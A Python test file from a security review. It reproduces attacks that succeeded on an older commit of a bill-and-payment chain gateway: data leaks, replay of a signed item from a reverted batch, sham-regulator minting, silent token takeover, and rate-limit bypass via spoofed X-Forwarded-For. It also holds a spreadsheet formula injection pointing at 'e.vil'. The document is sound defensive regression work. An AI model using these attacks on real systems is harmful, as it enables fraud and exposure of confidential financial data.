"""The third security review's attacks (issue 24), as they succeeded on c94da7d (the commit issue 24 started
from).

Each test here asserts that an attack WORKS: it runs against c94da7d's code and fixtures only, not against
main (where tests/security/ holds the same attacks, asserting that they fail: test_what_the_gateway_shows.py,
test_batches.py, test_regulators.py, test_tokens.py, test_gateways.py, test_denial_of_service.py,
test_smaller_points.py). To run it:

    git worktree add /tmp/pre24 c94da7d && ln -s "$PWD/node_modules" /tmp/pre24/node_modules
    cp docs/review/attacks_at_c94da7d.py /tmp/pre24/tests/api/test_attacks_at_c94da7d.py
    cd /tmp/pre24 && PYTHONPATH=. /path/to/main/.venv/bin/pytest -q -p no:cacheprovider \\
        -m "not postgres" tests/api/test_attacks_at_c94da7d.py

Every test passing there is every attack succeeding there.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import httpx
from eth_account import Account

from billchain_tools.harness import Gateway
from chain.backends.anvil import AnvilBackend
from chain.model import ZERO_HASH, BillKind, Role
from chain.relay import SignedBy, sign_typed
from gateway.core.money import parse_amount
from tests.api.conftest import Api, gateway_on
from tests.conftest import World
from tests.contracts.test_relay import SelfCustody


# Finding 1: a transaction explained shows a discount's terms to anyone who can see the bill.
def test_1_a_bank_asked_once_reads_a_competitors_later_rate_and_price(api: Api, cast: dict[str, str]) -> None:
    core, t1, first, second = cast["core"], cast["t1"], cast["bank"], cast["bank2"]
    bill = api.circulating(core, core, t1, "1000.00", kind="COMMERCIAL_ACCEPTANCE")
    asked = api.ok(api.post(f"/v1/bills/{bill}/discount", t1, {"bank": first, "annual_rate": "0.030000"}), 201)
    api.ok(api.post(f"/v1/transfers/{asked['transfer']['id']}/revoke", t1))
    api.mint(second, second, "5000.00")
    later = api.ok(api.post(f"/v1/bills/{bill}/discount", t1, {"bank": second, "annual_rate": "0.018734"}), 201)
    signed = api.ok(api.post(f"/v1/transfers/{later['transfer']['id']}/sign", second))
    assert api.get(f"/v1/transfers/{later['transfer']['id']}", first).status_code == 404  # as API.md says
    request = api.ok(api.get(f"/v1/transactions/{later['tx']['hash']}", first))
    (terms,) = [e["args"] for e in request["events"] if e["event"] == "TransferRequested"]
    assert terms["rateMicros"] == 18_734 and terms["price"] == parse_amount(later["transfer"]["price"])
    paid = api.ok(api.get(f"/v1/transactions/{signed['tx']['hash']}", core))  # the drawer, too
    assert parse_amount(later["transfer"]["price"]) in [e["args"].get("value") for e in paid["events"]]


# Finding 2: a batch explained to someone it paid shows the whole batch.
def test_2_the_payee_of_one_line_reads_the_other_line_and_every_signature(api: Api, cast: dict[str, str]) -> None:
    payer, one, other = cast["t1"], cast["t2"], cast["t3"]
    api.mint(cast["bank"], payer, "100.00")
    lines = [
        {"path": "/v1/cash/transfer", "body": {"to": one, "amount": "1.00"}},
        {"path": "/v1/cash/transfer", "body": {"to": other, "amount": "37.21"}},
    ]
    batch = api.ok(api.post("/v1/batch", payer, {"operations": lines}))
    assert api.get(f"/v1/cash/balances/{other}", one).status_code == 403
    seen = api.ok(api.get(f"/v1/transactions/{batch['tx']['hash']}", one))
    other_address = api.ok(api.get(f"/v1/participants/{other}"))["address"]
    assert seen["call"]["method"] == "executeBatch"
    operations = seen["call"]["args"]["operations"]
    assert len(operations) == 2 and all(len(op["signature"]) == 2 + 65 * 2 for op in operations)  # every signature
    moved = {(e["args"]["to"], e["args"]["value"]) for e in seen["events"] if e["event"] == "Transfer"}
    assert (other_address, 3721) in moved


# Finding 3: a batch is all or nothing only until it reverts.
def test_3_an_item_lifted_from_a_reverted_batch_pays_alone(world: World) -> None:
    payer, seller = (SelfCustody(world, Account.create()) for _ in range(2))
    for sc in (payer, seller):
        world.system.registry.register(world.operator, sc.address, Role.ENTERPRISE)
    world.cash.mint(world["bank"], payer.address, 5_000)
    bill_id, _ = world.bills.issue(
        world["core"],
        kind=BillKind.BANK_ACCEPTANCE,
        acceptor=world.addr("bank"),
        payee=seller.address,
        amount=1_000,
        maturity_day=world.today() + 90,
    )
    world.bills.accept(world["bank"], bill_id)
    seller.do(world.bills, "receiveBill", bill_id)
    relay, deadline = world.system.relay, payer.deadline()

    def signed(sc: SelfCustody, call: object, nonce: int) -> tuple[SignedBy, object]:
        typed = relay.typed_data(call, sc.address, nonce, deadline)
        return SignedBy(sc.address, nonce, deadline, sign_typed(sc.key, typed), sc.relayer), call

    pay = signed(payer, world.cash.encode("transfer", seller.address, 5_000), relay.nonce(payer.address))
    deliver = signed(
        seller, world.bills.encode("endorse", bill_id, 1, 10_000, payer.address, ZERO_HASH), relay.nonce(seller.address)
    )
    try:
        relay.send_batch(payer.relayer, [pay, deliver])
    except Exception:  # noqa: BLE001 - the batch reverts on chain, as intended
        pass
    relay.send(*pay)  # lifted from the reverted batch: the payment alone
    assert world.cash.balance_of(seller.address) == 5_000 and world.cash.balance_of(payer.address) == 0


# Finding 4: the operator alone admits a regulator, who lets an operator-admitted bank print money.
def test_4_a_sham_regulator_lets_a_bank_mint_fifty_billion(api: Api, cast: dict[str, str]) -> None:
    sham = api.onboard("REGULATOR", "sham")  # the platform has an active regulator already (cast["reg"])
    accomplice = api.onboard("BANK", "accomplice", mint_limit=None)
    api.ok(api.post(f"/v1/participants/{accomplice}/mint-limit", sham, {"limit": "50000000000.00"}))
    api.ok(api.post("/v1/cash/mint", accomplice, {"to": accomplice, "amount": "50000000000.00"}))
    assert api.balance(accomplice) == "50000000000.00"


# Finding 5: token reissues are silent.
def test_5_the_operator_takes_a_hosted_participants_token_and_leaves_no_trace(api: Api, cast: dict[str, str]) -> None:
    victim = cast["t1"]
    taken = api.ok(api.post(f"/v1/participants/{victim}/token", "operator"), 201)["api_token"]
    api.tokens["thief"] = taken
    assert api.ok(api.get("/v1/me", "thief"))["id"] == victim
    for reader in ("thief", cast["reg"]):  # the participant (once it has a token again) and a regulator
        assert api.get(f"/v1/participants/{victim}/token-events", reader).status_code == 404  # no record to read


# Finding 6: a member served by one gateway is served again by another (two gateways, one anvil).
def test_6_two_gateways_serve_one_member_both_ways(tmp_path: Path) -> None:
    node = AnvilBackend(tmp_path / "node")
    try:
        with gateway_on(tmp_path / "a", chain=node.url) as (a, _):
            book = tmp_path / "platform.json"
            book.write_text(json.dumps(a.get("/v1/health", None).json()))
            with gateway_on(tmp_path / "b", chain=node.url, contracts=book) as (b, _):
                own = Account.create()
                body = {"id": "supplier2", "name": "s2", "role": "ENTERPRISE", "address": own.address, "serve": False}
                a.ok(a.post("/v1/participants", "operator", body), 201)
                core = a.onboard("ENTERPRISE", "core")
                assert b.ok(b.post("/v1/participants/supplier2/serve", "operator", {"custody": "self"}), 201)
                assert a.ok(a.post("/v1/participants/supplier2/serve", "operator", {"custody": "self"}), 201)
                assert b.ok(b.post(f"/v1/participants/{core}/serve", "operator", {"custody": "self"}), 201)
    finally:
        node.close()


# Finding 7: failed authentications are limited only with all other traffic.
def test_7_six_hundred_bad_tokens_and_none_refused(tmp_path: Path) -> None:
    with gateway_on(tmp_path) as (api, _):
        answers = [api.get("/v1/bills", None, headers={"Authorization": f"Bearer bc_guess{i}"}) for i in range(600)]
    assert {a.status_code for a in answers} == {401}


# Finding 8: the smaller points.
def test_8_a_frozen_participant_uploads_a_document(api: Api, cast: dict[str, str]) -> None:
    api.ok(api.post(f"/v1/participants/{cast['t1']}/freeze", cast["reg"]))
    stored = api.client.post(
        "/v1/documents",
        content=b"an invoice",
        headers={"Authorization": f"Bearer {api.tokens[cast['t1']]}", "Content-Type": "text/plain"},
    )
    assert stored.status_code == 201


def test_8_an_id_registered_on_chain_reaches_the_regulators_spreadsheet_as_a_formula(
    api: Api, cast: dict[str, str]
) -> None:
    formula = '=HYPERLINK("http://e.vil/","open")'
    runtime = api.runtime
    victim = Account.create()
    runtime.system.registry.register(runtime.operator, victim.address, Role.ENTERPRISE, formula, "anyone")
    runtime.system.registry.freeze(runtime.operator, victim.address)
    runtime.indexer.catch_up()  # sent around the gateway: indexed as its block follower would
    csv = api.get("/v1/reports/frozen?format=csv", cast["reg"]).text
    assert any(line.split(",", 1)[1].startswith('"=HYPERLINK') for line in csv.splitlines()[1:])


def test_8_a_client_on_the_gateways_host_picks_its_bucket(tmp_path: Path) -> None:
    os.environ.update(BILLCHAIN_ADDRESS_RATE_LIMIT="1", BILLCHAIN_ADDRESS_RATE_BURST="3")
    try:
        with Gateway(tmp_path / "data", "embedded", None) as gateway:
            answers = [
                httpx.get(
                    f"{gateway.url}/v1/me",
                    headers={"Authorization": "Bearer bc_guess", "X-Forwarded-For": f"10.9.0.{i}"},
                )
                for i in range(8)
            ]
    finally:
        for name in ("BILLCHAIN_ADDRESS_RATE_LIMIT", "BILLCHAIN_ADDRESS_RATE_BURST"):
            os.environ.pop(name)
    assert {a.status_code for a in answers} == {401}  # a fresh bucket each time: never 429
